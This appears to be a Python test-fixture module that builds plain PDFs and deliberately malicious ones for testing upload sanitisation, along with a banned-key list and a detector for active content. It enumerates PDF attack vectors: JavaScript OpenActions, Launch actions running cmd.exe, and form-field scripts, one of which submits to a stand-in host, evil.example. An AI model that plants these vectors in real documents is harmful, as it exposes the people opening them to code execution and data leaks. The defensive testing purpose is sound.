"""Real PDFs for the upload tests, made with ReportLab and pikepdf: plain ones, and ones carrying each
way a PDF can run something in a clerk's viewer (scripts, launch actions, form-field actions)."""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader
from reportlab.pdfgen import canvas

# What must never be in a stored or served PDF: as a key or as a name value, anywhere.
BANNED = {"/JavaScript", "/JS", "/Launch", "/AA", "/OpenAction", "/Names", "/AcroForm", "/Annots"}
_BANNED_BYTES = re.compile(rb"/(?:JavaScript|JS|Launch|AA|OpenAction|Names|AcroForm|Annots)(?=[\s/<>\[\]()%]|$)")


def plain(pages: int = 2) -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out)
    for number in range(pages):
        page.drawString(100, 750, f"Death certificate, page {number + 1}")
        page.showPage()
    page.save()
    return out.getvalue()


def texts(data: bytes) -> list[str]:
    return [page.extract_text().strip() for page in PdfReader(io.BytesIO(data)).pages]


def _js(code: str = "app.alert('pwned');") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))


def _goto(pdf: pikepdf.Pdf, next_action) -> Dictionary:
    return Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=next_action)


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[90, 740, 300, 770],
                                         Border=[0, 0, 0], A=action))
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([annot]))


def _outline(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Open me"), Parent=outlines, A=action))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines


def _field_aa(pdf: pikepdf.Pdf) -> None:
    """A parent field (not itself on a page) whose keystroke/format actions are scripts; its widget kid
    sits on the page with no action of its own."""
    parent = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("name"), V=String("Zhang"),
                                          AA=Dictionary(K=_js(), F=_js("this.submitForm('http://evil.example')"))))
    widget = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=[100, 600, 300, 620], Parent=parent))
    parent.Kids = Array([widget])
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([widget]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([parent]), DA=String("/Helv 0 Tf 0 g"))


def _names_js(pdf: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array([String("x"), pdf.make_indirect(_js())]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def _page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_js())


def _smuggled(pdf: pikepdf.Pdf) -> None:
    """The page's resources point at the whole old document (catalog, its scripts, its outlines): what a
    page reaches comes along with it, so the copy must be scrubbed too."""
    pdf.Root.OpenAction = _js()
    _outline(pdf, _launch())
    pdf.pages[0].obj.Resources.Properties = Dictionary(MC0=pdf.Root, MC1=pdf.make_indirect(_js()))


# name -> how to make the attack
VECTORS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "open_action_js": lambda pdf: setattr(pdf.Root, "OpenAction", _js()),
    "names_javascript": _names_js,
    "page_aa": _page_aa,
    "goto_open_action_next_js": lambda pdf: setattr(pdf.Root, "OpenAction", _goto(pdf, _js())),
    "outline_js": lambda pdf: _outline(pdf, _js()),
    "outline_launch": lambda pdf: _outline(pdf, _launch()),
    "link_next_dict_js": lambda pdf: _link(pdf, Dictionary(S=Name.URI, URI=String("https://example.org"), Next=_js())),
    "link_next_array_launch": lambda pdf: _link(pdf, _goto(pdf, Array([_js(), _launch()]))),
    "link_launch": lambda pdf: _link(pdf, _launch()),
    "acroform_field_aa": _field_aa,
    "rendition_js": lambda pdf: _link(pdf, Dictionary(S=Name.Rendition, OP=0, JS=String("app.launchURL('x')"))),
    "open_action_rendition_js": lambda pdf: setattr(pdf.Root, "OpenAction",
                                                    Dictionary(S=Name.Rendition, JS=String("app.alert(1)"))),
    "resources_reach_the_catalog": _smuggled,
}


def malicious(vector: str, pages: int = 2) -> bytes:
    pdf = pikepdf.open(io.BytesIO(plain(pages)))
    VECTORS[vector](pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def filled_form() -> bytes:
    """A filled-in form: the typed value is visible only through the widget's appearance stream."""
    pdf = pikepdf.open(io.BytesIO(plain(1)))
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    appearance = pdf.make_stream(b"/Tx BMC BT /Helv 12 Tf 2 5 Td (ZHANG SAN FILLED) Tj ET EMC",
                                 Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 200, 20],
                                 Resources=Dictionary(Font=Dictionary(Helv=font)))
    widget = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"),
                                          V=String("ZHANG SAN FILLED"), Rect=[100, 600, 300, 620], F=4,
                                          AP=Dictionary(N=appearance), AA=Dictionary(K=_js())))
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([widget]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), DA=String("/Helv 0 Tf 0 g"))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _walk(obj, seen: set) -> Iterator[str]:
    """Every dictionary key and name value reachable from ``obj`` (streams' dictionaries included)."""
    stack = [obj]
    while stack:
        item = stack.pop()
        if isinstance(item, (pikepdf.Dictionary, pikepdf.Stream, pikepdf.Array)) and item.is_indirect:
            if item.objgen in seen:
                continue
            seen.add(item.objgen)
        if isinstance(item, pikepdf.Name):
            yield str(item)
        elif isinstance(item, pikepdf.Array):
            stack.extend(item)
        elif isinstance(item, (pikepdf.Dictionary, pikepdf.Stream)):
            for key in item.keys():
                yield key
                stack.append(item[key])


def active_parts(data: bytes) -> set[str]:
    """The banned names found anywhere in the file: every object pikepdf reads (trailer, every numbered
    object, reachable or not), and the raw bytes as a second look."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        seen: set = set()
        for name in _walk(pdf.trailer, seen):
            found |= {name} & BANNED
        for obj in pdf.objects:
            for name in _walk(obj, seen):
                found |= {name} & BANNED
    found |= {m.decode() for m in _BANNED_BYTES.findall(data)}
    return found
